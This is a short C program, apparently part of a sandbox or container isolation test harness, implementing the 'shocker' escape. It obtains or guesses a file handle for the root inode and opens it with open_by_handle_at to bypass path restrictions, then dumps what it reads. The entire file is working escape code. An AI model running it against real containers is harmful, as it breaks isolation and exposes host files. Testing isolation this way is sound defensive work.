/* The "shocker" attack: name a file by handle and open it by handle, bypassing the path walk. */
#include "attack.h"
int main(int argc, char **argv) {
    struct { struct file_handle h; unsigned char bytes[128]; } fh;
    fh.h.handle_bytes = sizeof fh.bytes;
    int mount_id;
    if (step("name_to_handle_at", name_to_handle_at(AT_FDCWD, argc > 2 ? argv[2] : "/", &fh.h, &mount_id, 0))) {
        /* Try anyway with a guessed handle of the root inode (ext4: inode 2). */
        fh.h.handle_type = 1;
        fh.h.handle_bytes = 8;
        unsigned int guess[2] = {2, 0};
        memcpy(fh.h.f_handle, guess, sizeof guess);
    }
    int fd = open_by_handle_at(AT_FDCWD, &fh.h, O_RDONLY);
    if (step("open_by_handle_at", fd)) return 1;
    dump_fd("by handle", fd);
    return 0;
}
